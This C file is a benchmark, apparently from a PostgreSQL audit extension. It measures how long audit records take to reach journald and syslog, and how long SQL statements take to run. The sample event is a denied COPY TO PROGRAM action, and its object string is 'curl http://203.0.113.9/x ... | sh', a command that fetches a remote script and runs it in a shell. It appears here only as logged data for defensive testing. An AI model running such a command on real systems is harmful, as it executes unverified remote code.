/*-------------------------------------------------------------------------
 *
 * bench_records.c
 *	  What writing a record takes, inside a backend; for test/bench_records.
 *
 * Linked with the module's own object files into a library that is loaded in
 * place of the module.  Sending alone is timed with fields that are ready made;
 * a whole record from the event on, sent by ourselves or by libsystemd.
 *
 * Copyright (c) 2026, the pg_gatekeeper authors
 * SPDX-License-Identifier: PostgreSQL
 *
 *-------------------------------------------------------------------------
 */
#include "audit/audit.h"

#include <sys/uio.h>
#include <syslog.h>
#include <time.h>

#define SD_JOURNAL_SUPPRESS_LOCATION
#include <systemd/sd-journal.h>

#include "catalog/pg_type.h"
#include "executor/spi.h"
#include "fmgr.h"
#include "nodes/makefuncs.h"
#include "utils/array.h"
#include "utils/builtins.h"

extern PGDLLEXPORT Datum bench_records(PG_FUNCTION_ARGS);
extern PGDLLEXPORT Datum bench_actions(PG_FUNCTION_ARGS);

static GkRecord sample;
static struct iovec fields[GK_MAX_FIELDS];
static int	nfields;
static char line[GK_RECORD_SIZE];

static float8
now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e6 + ts.tv_nsec / 1e3;
}

static Datum
as_array(const float8 *taken, int n)
{
	Datum	   *datums = palloc(n * sizeof(Datum));

	for (int i = 0; i < n; i++)
		datums[i] = Float8GetDatum(taken[i]);
	return PointerGetDatum(construct_array(datums, n, FLOAT8OID, 8, FLOAT8PASSBYVAL, 'd'));
}

/* The fields of a record of the event, as others want them. */
static void
prepare(const GkEvent *event)
{
	static char text[2 * GK_RECORD_SIZE];
	char	   *next = text;

	gk_audit_gather(&sample, event);
	gk_audit_look_up(&sample);
	sample.seq = 1;
	gk_record_fill(&sample);
	nfields = 0;
	for (int i = 0; i < gk_num_fields; i++)
	{
		size_t		len;

		if (gk_fields[i].name == NULL || sample.length[i] == 0)
			continue;
		len = strlen(gk_fields[i].name);
		memcpy(next, gk_fields[i].name, len);
		next[len] = '=';
		memcpy(next + len + 1, sample.value[i], sample.length[i]);
		fields[nfields].iov_base = next;
		fields[nfields++].iov_len = len + 1 + sample.length[i];
		next += len + 1 + sample.length[i];
	}
}

/* The same as the line that goes to syslog. */
static void
prepare_line(void)
{
	int			used = snprintf(line, sizeof(line), "@cee:{");

	for (int i = 0; i < gk_num_fields; i++)
	{
		GkText		json;

		if (gk_fields[i].name == NULL || sample.length[i] == 0)
			continue;
		used += snprintf(line + used, sizeof(line) - used, "%s\"%s\":",
						 used > 6 ? "," : "", gk_fields[i].name);
		gk_text_init(&json, line + used, sizeof(line) - used - 2);
		gk_text_json(&json, sample.value[i]);
		used += (int) json.used;
	}
	strcpy(line + used, "}");
}

PG_FUNCTION_INFO_V1(bench_records);

/* (kind, times) -> how long each took, in microseconds */
Datum
bench_records(PG_FUNCTION_ARGS)
{
	char	   *kind = text_to_cstring(PG_GETARG_TEXT_PP(0));
	int			times = PG_GETARG_INT32(1);
	float8	   *taken = palloc(times * sizeof(float8));
	GkRequest	request = {.door = GK_DOOR_STATEMENT};
	GkFinding	finding = {.action = "COPY TO PROGRAM",.object_type = "program"};
	GkEvent		event = {
		.rule = &gk_rules[GK_COPY_PROGRAM],
		.verdict = GK_DENIED,
		.circumstances = GK_ELEVATED,
		.request = &request,
		.finding = &finding
	};
	static int	number;
	GkSinks		configured = gk_audit_sinks;
	bool		whole = strncmp(kind, "record", 6) == 0 && strcmp(kind, "record, sendv") != 0;

	request.stmt = (Node *) makeNode(CopyStmt);
	finding.object = "curl http://203.0.113.9/x 000000 | sh";
	prepare(&event);
	prepare_line();
	if (whole)
		(void) gk_read_sinks(strcmp(kind, "record, syslog") == 0 ? "syslog" : "journald", &gk_audit_sinks);
	for (int i = 0; i < times; i++)
	{
		char		object[64];
		uint64		seq;
		float8		began;

		/* another one each time, so that it is not counted only */
		snprintf(object, sizeof(object), "curl http://203.0.113.9/x %06d | sh", ++number);
		finding.object = object;

		/*
		 * One after the other without a pause fills the socket's queue, and then
		 * each takes as long as the receiver takes for one.
		 */
		pg_usleep(300);
		began = now_us();
		if (strcmp(kind, "record, sendv") == 0)
		{
			prepare(&event);
			(void) sd_journal_sendv(fields, nfields);
		}
		else if (whole)
			(void) gk_audit_record(&event, &seq);
		else if (strcmp(kind, "send") == 0)
			(void) gk_journald_send(&sample, gk_monotonic_us() + 1000000);
		else if (strcmp(kind, "sd_journal_sendv") == 0)
			(void) sd_journal_sendv(fields, nfields);
		else
			syslog(LOG_AUTHPRIV | LOG_ERR, "%s", line);
		taken[i] = now_us() - began;
	}
	gk_audit_sinks = configured;
	return as_array(taken, times);
}

PG_FUNCTION_INFO_V1(bench_actions);

/* (statement, recorded by us?, times) -> as above */
Datum
bench_actions(PG_FUNCTION_ARGS)
{
	char	   *statement = text_to_cstring(PG_GETARG_TEXT_PP(0));
	int			level = gk_audit_level;
	int			times = PG_GETARG_INT32(2);
	float8	   *taken = palloc(times * sizeof(float8));
	static int	number;

	SPI_connect();
	gk_audit_level = PG_GETARG_BOOL(1) ? GK_AUDIT_PRIVILEGED : GK_AUDIT_ELEVATED;
	for (int i = 0; i < times; i++)
	{
		char		sql[256];
		float8		began;

		snprintf(sql, sizeof(sql), "%s /* %d */", statement, ++number);
		began = now_us();
		SPI_execute(sql, false, 0);
		taken[i] = now_us() - began;
	}
	gk_audit_level = level;
	SPI_finish();
	return as_array(taken, times);
}
